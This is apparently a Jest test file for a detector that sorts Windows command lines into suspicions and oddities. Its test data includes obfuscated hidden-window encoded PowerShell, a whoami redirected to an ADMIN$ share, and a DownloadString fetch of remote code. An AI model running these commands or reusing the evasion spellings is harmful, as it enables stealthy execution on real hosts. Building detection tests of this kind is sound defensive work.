import { odditiesIn, suspicionsIn } from '../../../../lib/engine/assessment/command-line';

const hidden = 'powershell.exe -w hidden -File C:\\ops\\disk.ps1';
const encoded = 'powershell.exe -NoProfile -ExecutionPolicy Unrestricted -EncodedCommand SQBFAFgA';

test.each([
  ['a hidden window and an encoded command', 'powershell.exe -nop -w hidden -enc SQBFAFgA'],
  ['the same by number and alias', 'powershell.exe -WindowStyle 1 -ec SQBFAFgA'],
  ['the same by beginnings', 'powershell.exe -W Hi -Enc SQBFAFgA'],
  ['the same by one letter', 'powershell.exe -w h -e SQBFAFgA'],
  ['the same with other dashes', 'powershell.exe \u2013w hidden \u2014enc SQBFAFgA'],
  ['the same with a bar', 'powershell.exe \u2015WindowStyle Hidden \u2015ec SQBFAFgA'],
  ['an answer written to a share of the device itself', 'cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__17 2>&1'],
  ['code that comes from the network', "powershell.exe -c (New-Object Net.WebClient).DownloadString('http://x')"],
])('%s is a suspicion', (_, commandLine) => {
  expect(suspicionsIn(commandLine)).toHaveLength(1);
  expect(odditiesIn(commandLine)).toEqual([]);
});

test('a hidden window alone is odd and no suspicion: schedulers and monitoring hide theirs', () => {
  expect(suspicionsIn(hidden)).toEqual([]);
  expect(odditiesIn(hidden)).toEqual(['hides its window']);
});

test.each(['normal', 'minimized', '2', 'hiddenly'])('a window that is %s is not hidden', (style) => {
  expect(suspicionsIn(`powershell.exe -w ${style} -enc SQBFAFgA`)).toEqual([]);
});

test('an encoded command alone is neither: automation sends all of its commands so', () => {
  expect(suspicionsIn(encoded)).toEqual([]);
  expect(odditiesIn(encoded)).toEqual([]);
});
